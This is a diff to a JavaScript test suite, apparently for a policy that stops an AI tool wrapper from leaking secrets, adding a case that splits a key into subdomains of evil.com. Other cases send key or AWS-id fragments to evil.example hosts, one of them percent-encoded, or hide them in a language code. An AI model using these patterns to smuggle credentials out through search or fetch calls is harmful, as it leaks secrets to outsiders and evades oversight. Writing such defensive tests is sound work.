@@ -81,6 +81,13 @@ describe('policy', () => {
       'a language',
       (footnote) => footnote.search({ query: 'x', language: `en-${key.slice(9, 17)}-${key.slice(17, 25)}` }),
     ],
+    [
+      'several domains',
+      (footnote) => {
+        const includeDomains = [0, 1, 2].map((part) => `${key.slice(9 + part * 10, 19 + part * 10)}.evil.com`);
+        return footnote.search({ query: 'x', includeDomains });
+      },
+    ],
     ['the host of a page', (footnote) => footnote.fetchPage({ url: `https://${awsId}.evil.example/` })],
     ['the labels of a host', (footnote) => footnote.fetchPage({ url: `https://${spread}.evil.example/` })],
     ['a host, encoded', (footnote) => footnote.fetchPage({ url: `https://%41${awsId.slice(1)}.evil.example/` })],
